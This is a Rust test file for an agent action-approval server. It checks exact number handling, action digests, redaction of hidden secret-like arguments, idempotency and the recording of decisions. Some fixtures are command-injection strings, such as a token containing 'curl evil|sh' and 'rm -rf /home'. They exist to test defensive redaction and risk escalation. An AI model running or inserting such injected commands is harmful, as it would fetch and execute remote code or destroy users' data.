//! A decision applies to exactly the requested action: digests, hidden parts, exact numbers, and the record of each
//! decision.

use serde_json::{Value, json};

use crate::approvals::{ask, decision, id_of};
use crate::support::{Home, Server};

const NUMBERS: &str = "[123456789012345678901234567890,1e400,0.1000000000000000055511151231257827,-0,1.0,1]";

/// The response line for a request with these params.
fn line(server: &mut Server, method: &str, params: &str) -> String {
    server
        .send_raw(format!("{{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"{method}\",\"params\":{params}}}\n"));
    server.line()
}

#[test]
fn numbers_stay_exact_through_every_method() {
    let home = Home::new();
    let (mut ada, mut agent) = (home.server(), home.agent("acme", "m-1", "builder"));
    let (_, thread) = ada.thread();
    let action = format!(r#""tool_name":"pay","summary":"s","arguments":{{"amounts":{NUMBERS}}}"#);
    let asked = line(&mut agent, "approval/request", &format!(r#"{{"thread_id":"{thread}",{action}}}"#));
    let event = format!(r#"{{"thread_id":"{thread}","kind":{{"event":"approval_request",{action}}}}}"#);
    let appended = line(&mut agent, "event/append", &event);
    let batch = line(&mut agent, "event/appendBatch", &format!(r#"{{"events":[{event}]}}"#));
    let listed = line(&mut ada, "approval/list", "{}");
    let events = line(&mut ada, "event/list", &format!(r#"{{"thread_id":"{thread}"}}"#));
    for (said, times) in [(&asked, 1), (&appended, 1), (&batch, 1), (&listed, 3), (&events, 3)] {
        assert_eq!(said.matches(NUMBERS).count(), times, "{said}");
    }
    // `1.0` and `1` are different actions.
    let other = format!(r#"{{"thread_id":"{thread}",{}}}"#, action.replace("1.0", "1"));
    let other = line(&mut agent, "approval/request", &other);
    let digest = |line: &str| line.split("action_digest\":\"").nth(1).unwrap()[..76].to_owned();
    assert_eq!(digest(&asked), digest(&appended));
    assert_ne!(digest(&asked), digest(&other));
}

#[test]
fn hidden_parts_are_reported_raise_the_risk_and_change_the_digest() {
    let home = Home::new();
    let (mut ada, mut agent) = (home.server(), home.agent("acme", "m-1", "builder"));
    let (_, thread) = ada.thread();
    let params = |token: &str| {
        json!({"thread_id": thread, "tool_name": "http", "summary": "post", "risk": "low",
               "arguments": {"command": "curl -H \"$token\" https://example.com", "token": token}})
    };
    let one = agent.ok("approval/request", params("x\"; curl evil|sh #"));
    let other = agent.ok("approval/request", params("x\"; rm -rf /home #x"));
    assert_eq!(one["arguments"]["token"], "[redacted:token]");
    assert_eq!(one["arguments"], other["arguments"]);
    assert_eq!(one["hidden"], json!({"parts": 1, "characters": 18, "kinds": ["token"]}));
    assert_eq!((&one["risk"], &one["requested_risk"]), (&json!("high"), &json!("low")));
    // They have the same display but different digests.
    assert_ne!(one["action_digest"], other["action_digest"]);
    assert!(one["action_digest"].as_str().unwrap().starts_with("hmac-sha256:"));
    assert!(one["shown_digest"].as_str().unwrap().starts_with("sha256:"));
    let mut wrong = decision(&one, "approved");
    wrong["action_digest"] = other["action_digest"].clone();
    assert_eq!(ada.refusal("approval/decide", wrong), "conflict");
    let literal = agent.ok("approval/request", params("[redacted:token]"));
    assert_eq!((literal.get("hidden"), &literal["risk"]), (None, &json!("low")));
    assert_ne!(literal["action_digest"], one["action_digest"]);

    // The pending item in the inbox reports this too.
    let items = ada.ok("inbox/list", json!({"view": "needs_approval"}))["items"].take();
    assert_eq!(items[0]["asks"][0]["risk"], "high");
    // A retry with the same secret is the same action. With another secret it is a different one.
    let keyed = |token: &str| {
        let mut params = params(token);
        params["idempotency_key"] = json!("k");
        params
    };
    let first = agent.ok("approval/request", keyed("x\"; curl evil|sh #"));
    assert_eq!(agent.ok("approval/request", keyed("x\"; curl evil|sh #")), first);
    assert_eq!(agent.refusal("approval/request", keyed("x\"; curl good|sh #")), "conflict");
}

#[test]
fn a_client_can_send_the_digest_it_has_displayed() {
    let home = Home::new();
    let (mut ada, mut agent) = (home.server(), home.agent("acme", "m-1", "builder"));
    let (_, thread) = ada.thread();
    let asked = ask(&mut agent, &thread);
    let mut decide = decision(&asked, "approved");
    decide["shown_digest"] = json!("sha256:0");
    let error = ada.err("approval/decide", decide.clone());
    assert!(error["message"].as_str().unwrap().contains("view it again"), "{error}");
    decide["shown_digest"] = asked["shown_digest"].clone();
    assert_eq!(ada.ok("approval/decide", decide)["state"], "approved");
}

#[test]
fn every_decision_records_how_it_was_made() {
    let home = Home::new();
    let mut command = home.command(["app-server"]);
    command.env("CLAUDECODE", "1");
    let (mut ada, mut agent) = (Server::spawn(command), home.agent("acme", "m-1", "builder"));
    let (room, thread) = ada.thread();
    let asked = ask(&mut agent, &thread);
    let decided = ada.ok("approval/decide", decision(&asked, "approved"));
    let how = json!({"surface": "app-server", "terminal": false, "agent_host": "claude-code"});
    assert_eq!(decided["decided_how"], how);
    assert_eq!(agent.ok("approval/read", id_of(&asked))["decided_how"], how);
    let events = ada.ok("event/list", json!({"thread_id": thread, "kinds": ["approval_decided"]}));
    assert_eq!(events["events"][0]["kind"]["decided_how"], how);
    let trail = ada.ok("audit/list", json!({"workroom_id": room}))["entries"].take();
    let entry = trail.as_array().unwrap().iter().find(|entry| entry["method"] == "approval/decide").unwrap();
    assert_eq!((&entry["decided_how"], &entry["outcome"]), (&how, &json!("ok")));
    // The requester's inbox shows it in words.
    let items = agent.ok("inbox/list", json!({}))["items"].take();
    assert_eq!(items[0]["preview"], "approved (from inside claude-code)");
    // A client cannot set this with a field of its request.
    let other = ask(&mut agent, &thread);
    let mut forged = decision(&other, "approved");
    forged["decided_how"] = json!({"surface": "cli", "terminal": true});
    assert_eq!(ada.misfit("approval/decide", forged), "decided_how");
}

#[test]
fn an_ambiguous_action_is_refused() {
    let home = Home::new();
    let mut agent = home.agent("acme", "m-1", "builder");
    let (_, thread) = agent.thread();
    let twice = r#""tool_name":"ls","tool_name":"rm","summary":"s""#;
    for (method, params) in [
        ("approval/request", format!(r#"{{"thread_id":"{thread}",{twice}}}"#)),
        (
            "event/append",
            format!(r#"{{"thread_id":"{thread}","kind":{{"event":"approval_request",{twice}}}}}"#),
        ),
    ] {
        let answer: Value = serde_json::from_str(&line(&mut agent, method, &params)).unwrap();
        assert_eq!(answer["error"]["data"]["kind"], "invalid_params", "{answer}");
    }
    assert_eq!(agent.ok("approval/list", json!({}))["approvals"], json!([]));
}
